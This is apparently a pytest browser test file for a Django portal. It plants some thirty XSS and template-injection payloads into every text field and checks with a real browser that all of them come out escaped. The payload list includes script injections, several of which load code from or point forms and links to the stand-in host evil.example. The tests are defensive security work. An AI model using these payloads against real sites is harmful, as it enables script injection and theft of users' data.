"""No text that anybody can write becomes a part of a page: not a node, a script or a request.

Thirty payloads stand in every text column of every table and in every parameter, and a real
browser opens every page, without the policy that would stop them a second time.
"""

import json
import mimetypes
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import ROOT
from tests.installations import install

pytestmark = pytest.mark.browser

HIT = "data-planted src=x onerror=alert(1)"
PAYLOADS = [
    f"<img {HIT}>",
    f'"><img {HIT}>',
    f"'><img {HIT}>",
    f"</title><img {HIT}>",
    f"</textarea><img {HIT}>",
    f"</script><img {HIT}>",
    f"</style><img {HIT}>",
    f"</option></select><img {HIT}>",
    f"--><img {HIT}>",
    f"]]><img {HIT}>",
    f"`><img {HIT}>",
    f"<<img {HIT}//",
    "<img/data-planted/src=x/onerror=alert(1)>",
    "<svg data-planted onload=alert(1)>",
    "<svg><script data-planted>alert(1)</script></svg>",
    "<script data-planted>alert(1)</script>",
    "<script data-planted src=//evil.example/x.js></script>",
    "<iframe data-planted srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '" data-planted onfocus=alert(1) autofocus x="',
    "' data-planted onfocus=alert(1) autofocus x='",
    "x data-planted onfocus=alert(1) autofocus",
    "javascript:alert(1)//",
    f"&lt;img {HIT}&gt;",
    f"&#60;img {HIT}&#x3e;",
    "<details data-planted open ontoggle=alert(1)>",
    "<video data-planted><source onerror=alert(1)></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img {HIT}>",
    "<base data-planted href=//evil.example/>",
    "<link data-planted rel=stylesheet href=//evil.example/x.css>",
    "<form data-planted action=//evil.example/><button>x</button></form>",
    '{{ 1787568|add:1|stringformat:"s" }}',
    f"\\x3cimg {HIT}\\x3e",
]
# Runs in the browser: what has grown on a page, which links run a script, what was computed.
LOOK = """
const look = page => Object.entries({
    'a node': page.querySelector('[data-planted]'),
    'a link': [...page.querySelectorAll('[href],[src],[action],[formaction]')].some(node =>
        ['href', 'src', 'action', 'formaction'].some(name =>
            /^\\s*(javascript|vbscript|data:text)/i.test(node.getAttribute(name) || ''))),
    'a result': page.documentElement.textContent.includes('1787569'),
}).filter(([name, found]) => found).map(([name]) => name)
"""
HERE = f"() => {{ {LOOK}; return look(document) }}"
READ = f"""texts => {{ {LOOK};
    return texts.map(text => look(new DOMParser().parseFromString(text, 'text/html'))) }}"""
BATCH = 40


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """Every page of a portal full of hostile texts."""
    data_dir = tmp_path_factory.mktemp("planted")
    (data_dir / "static").mkdir()
    install("empty", data_dir)
    payloads = data_dir / "payloads.json"
    payloads.write_text(json.dumps(PAYLOADS), encoding="utf-8")
    environment = os.environ | {"DATA_DIR": str(data_dir), "PYTHONPATH": str(ROOT)}
    environment |= {"DJANGO_SETTINGS_MODULE": "aimak_portal.settings", "DATABASE_URL": ""}
    command = [sys.executable, str(Path(__file__).with_name("planted.py")), str(payloads)]
    run = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr[-3000:]
    return json.loads(run.stdout.splitlines()[-1])


class Watch:
    """A browser page that notes every dialog and every request to another site."""

    def __init__(self, page, texts, static):
        self.page, self.texts, self.static = page, texts, static
        self.noted = []
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.route("**/*", self._answer)

    def _dialog(self, dialog):
        self.noted.append("a dialog")
        dialog.dismiss()

    def _request(self, request):
        host = urlsplit(request.url).hostname
        if host not in (None, "testserver"):
            self.noted.append(f"a request to {host}")

    def _answer(self, route):
        address = urlsplit(route.request.url)
        place = address.path + (f"?{address.query}" if address.query else "")
        if address.hostname != "testserver":
            route.abort()
        elif route.request.is_navigation_request() and self.opened in (place, None):
            route.fulfill(body=self.text, content_type="text/html; charset=utf-8")
        elif address.path in self.static:
            path = self.static[address.path]
            kind = mimetypes.guess_type(path)[0] or "text/plain"
            route.fulfill(path=path, content_type=kind)
        else:
            route.fulfill(status=404, body="")

    def open(self, place):
        """What was found on the page at this address."""
        self.noted, self.text, self.opened = [], self.texts[place], None
        self.page.goto("http://testserver" + place, wait_until="load")
        self.opened = place
        return [*self.noted, *self.page.evaluate(HERE)]


def read(page, texts):
    """What the browser's own parser makes of each page, where that is more than text."""
    places = list(texts)
    found = {}
    for start in range(0, len(places), BATCH):
        batch = places[start : start + BATCH]
        grown = page.evaluate(READ, [texts[place] for place in batch])
        found |= {place: what for place, what in zip(batch, grown, strict=True) if what}
    return found


def kinds(places):
    """One address of each kind: the numbers and the questions taken out, they look alike."""
    each = {}
    for place in places:
        bare = place.partition("?")[0]
        each.setdefault(re.sub(r"[0-9a-f-]{36}|[0-9-]+|/en/", "#", bare), place)
    return list(each.values())


def test_no_text_becomes_a_part_of_a_page(page, planted):
    assert len(planted["pages"]) > 300
    assert read(page, planted["pages"]) == {}


def test_no_text_runs_asks_or_grows_while_a_page_is_open(page, planted):
    """The scripts of the desk run here, and what they add is looked at as well."""
    watch = Watch(page, planted["pages"], planted["static"])
    places = kinds(planted["pages"])
    assert len(places) > 60
    assert {place: what for place in places if (what := watch.open(place))} == {}


def test_the_payloads_stand_on_the_pages(planted):
    """Escaped, where they may be read: otherwise the test above would have looked at nothing."""
    every = "".join(planted["pages"].values())
    assert every.count("data-planted") > 1000
    for place in (
        "/ky/",
        "/ky/about/",
        "/ky/proposals/",
        "/ky/hearings/",
        "/ky/documents/",
        "/ky/programs/",
        "/ky/programs/1/",
        "/ky/measures/4/",
        "/ky/budget/2025/",
        "/ky/budget/2026/",
        "/ky/budget/2026/lines/5/",
        "/ky/admin/budget/budgetupload/",
        "/brought/known/0/draft",
        "/brought/unknown/0/approved",
    ):
        assert "data-planted" in planted["pages"][place], place


def test_no_text_becomes_a_formula_or_a_link_of_an_excel_file(planted):
    books = planted["workbooks"]
    assert len(books) > 8
    assert {place for place, book in books.items() if book["formulas"] or book["links"]} == set()
    assert sum(book["planted"] for book in books.values()) > 100


def test_without_escaping_a_browser_is_seen_to_run_and_to_ask(page, planted):
    watch = Watch(page, planted["control"], planted["static"])
    told = set()
    for number in range(len(PAYLOADS)):
        told |= set(watch.open(f"/control/{number}/text"))
    assert told >= {"a dialog", "a node", "a request to evil.example"}


def test_without_escaping_every_payload_is_noticed(page, planted):
    watch = Watch(page, planted["control"], planted["static"])
    noticed = {int(place.split("/")[2]) for place in read(page, planted["control"])}
    # Only a page that runs shows these.
    running = [place for place in planted["control"] if int(place.split("/")[2]) not in noticed]
    noticed |= {int(place.split("/")[2]) for place in running if watch.open(place)}
    assert [PAYLOADS[number] for number in range(len(PAYLOADS)) if number not in noticed] == []
